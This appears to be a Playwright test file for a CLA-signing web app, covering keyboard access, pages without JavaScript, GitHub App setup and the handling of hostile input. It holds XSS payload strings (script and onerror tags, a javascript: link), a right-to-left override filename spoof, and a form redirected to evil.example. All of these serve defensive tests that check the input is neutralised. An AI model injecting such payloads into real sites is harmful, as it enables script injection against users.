"""The pages in use: by keyboard alone, without scripts, and with hostile names on them."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs

import pytest
from flask import Flask, request
from playwright.sync_api import Page, expect

from bot.app import settings_from
from bot.sandbox.free_port import free_port
from bot.sandbox.server import Sandbox
from core.github import Account
from tests.browser.conftest import Look
from tests.browser.setting_up import stored
from tests.browser.site import (
    KETTLE,
    NOW,
    SECRET_KEY,
    judge,
    live,
    make,
    place,
    propose,
    publish,
    served,
)
from tests.browser.tab import Tab

HOSTILE = (
    '<img src="/pwned" onerror="document.title=\'pwned\'"><script>document.title="pwned"</script>'
)
FIRST = "Skip to the content"
OVERRIDE = "\u202exe.exe\u202c"


def focused(page: Page) -> str:
    """Give the words, or the name, of what the keyboard is on."""
    return str(
        page.evaluate(
            "(e => e === document.body ? 'BODY' : e.innerText || e.name)(document.activeElement)"
        )
    ).strip()


def walk(page: Page, most: int = 60) -> Iterator[str]:
    """Press Tab until the page has been gone round, and give the words on each stop."""
    for _step in range(most):
        page.keyboard.press("Tab")
        here = focused(page)
        if here == "BODY":
            return
        yield here


def test_the_first_key_leads_past_the_head_to_the_content(look: Look) -> None:
    page = look("live", "/acme/kettle/cla")

    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name=FIRST)).to_be_in_viewport()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")

    assert focused(page) == "Pull requests"


@pytest.mark.parametrize("path", ["/", "/acme/kettle/", "/acme/kettle/cla", "/setup"])
def test_the_keyboard_reaches_everything_in_order_and_shows_where_it_is(
    look: Look, path: str
) -> None:
    page = look("near" if path == "/setup" else "sandbox", path)
    rings = []
    seen = []
    for here in walk(page):
        seen.append(here)
        rings.append(page.evaluate("getComputedStyle(document.activeElement).outlineStyle"))

    links = page.locator("a:visible, button:visible, summary:visible, input:visible")
    assert len(seen) >= links.count() - 1, "one of a group of radio buttons is enough"
    assert seen[0] == FIRST
    assert seen[-1] == "Dark"
    assert set(rings) == {"solid"}


def test_a_project_can_be_read_by_keyboard_alone(look: Look) -> None:
    page = look("live", "/")

    def go_to(words: str) -> None:
        next(here for here in walk(page) if here == words)
        with page.expect_navigation():
            page.keyboard.press("Enter")

    go_to("acme/kettle")
    go_to("Read the agreement")
    expect(page.get_by_role("heading", name="How to sign")).to_be_visible()
    go_to("Français")
    expect(page.get_by_role("heading", name="Comment signer")).to_be_visible()
    assert page.url.endswith("/acme/kettle/cla")


def test_everything_works_without_javascript(look: Look) -> None:
    page = look("live", "/", javascript=False)

    page.get_by_role("link", name="acme/kettle").click()
    page.get_by_role("link", name="Read the agreement").click()
    expect(page.get_by_text("/sign 1.0", exact=True)).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download version 1.0").first.click()
    assert download.value.suggested_filename == "cla-1.0.md"

    page.get_by_role("link", name="Français").click()
    page.get_by_role("link", name="Sombre").click()
    expect(page.locator("html")).to_have_attribute("lang", "fr")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")


@pytest.fixture
def github() -> Iterator[tuple[str, list[dict[str, list[str]]]]]:
    """Play GitHub's page for new Apps; keeps what was posted."""
    posted: list[dict[str, list[str]]] = []
    site = Flask("github")

    @site.post("/settings/apps/new")
    def new_app() -> str:
        posted.append(parse_qs(request.get_data(as_text=True)))
        return "Create GitHub App?"

    with served(site) as address:
        yield address, posted


def test_the_set_up_form_really_reaches_github_under_the_pages_policy(
    look: Look,
    sites: dict[str, str],
    tmp_path: Path,
    github: tuple[str, list[dict[str, list[str]]]],
) -> None:
    address, posted = github
    with served(make(tmp_path, {"GITHUB_API_URL": f"{address}/api/v3"})) as site:
        sites["enterprise"] = site
        page = look("enterprise", "/setup", javascript=False)
        page.get_by_role("button", name="Go to GitHub and create it").click()
        expect(page.get_by_text("Create GitHub App?")).to_be_visible()

    (form,) = posted
    assert json.loads(form["manifest"][0])["default_permissions"]["checks"] == "write"
    assert set(form) == {"manifest"}


def test_an_app_is_made_in_the_browser_from_the_first_page_to_the_stored_keys(
    look: Look, sites: dict[str, str], tmp_path: Path
) -> None:
    port = free_port()
    own = f"http://127.0.0.1:{port}"
    with Sandbox.start() as sandbox:
        site = make(tmp_path, {"GITHUB_API_URL": sandbox.api_url, "PUBLIC_URL": own})
        with served(site, port) as sites["own"]:
            page = look("own", "/setup", javascript=False)
            page.get_by_role("button", name="Go to GitHub and create it").click()
            page.get_by_role("button", name="Create it, as").click()
            expect(page.get_by_role("heading", name="The GitHub App is set up")).to_be_visible()
            assert page.url == f"{own}/setup"
        settings = settings_from({"SECRET_KEY": SECRET_KEY, **place(tmp_path)})

    assert stored(site) in {app.slug for app in sandbox.world.apps.values()}
    assert settings.mode == "live"
    assert settings.github
    assert settings.github.app_id in sandbox.world.apps


def test_a_form_sent_elsewhere_is_stopped_by_the_policy(look: Look, tab: Tab) -> None:
    page = look("near", "/setup")

    page.evaluate(
        "const f = document.querySelector('form[method=post]');"
        "f.action = 'http://evil.example/'; f.submit()"
    )
    page.wait_for_timeout(200)

    assert page.url.endswith("/setup")
    assert any("form-action" in line for line in tab.told)


@pytest.fixture
def hostile(sites: dict[str, str], tmp_path: Path) -> Iterator[None]:
    """Serve a site whose names and texts are all hostile."""
    site = make(tmp_path, live())
    stranger = Account(99, HOSTILE + OVERRIDE)
    with site.extensions["potluck"].app.write() as connection:
        propose(connection, 1, stranger, NOW)
        judge(connection, 1, "action_required", [stranger])
    text = f"# {HOSTILE}\n\n{HOSTILE} [click](javascript:document.title='pwned') {OVERRIDE} text"
    publish(site.extensions["potluck"].app, KETTLE, "3.0", text.encode(), NOW)
    with served(site) as address:
        sites["hostile"] = address
        yield


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("path", ["/acme/kettle/", "/acme/kettle/cla"])
def test_hostile_names_and_texts_are_only_looked_at(look: Look, tab: Tab, path: str) -> None:
    page = look("hostile", path)

    assert "pwned" not in page.title()
    assert tab.asked
    assert not [url for url in tab.asked if url.endswith("/pwned")]
    # The badge is a picture of our own; any other would be a stranger's.
    foreign = "main img:not([src$='/cla/badge.svg']), main script, main [onerror]"
    expect(page.locator(foreign)).to_have_count(0)
    expect(page.locator("a[href^='javascript']")).to_have_count(0)
    assert "\u202e" not in page.content()
    expect(page.get_by_text("<img src=").first).to_be_visible()
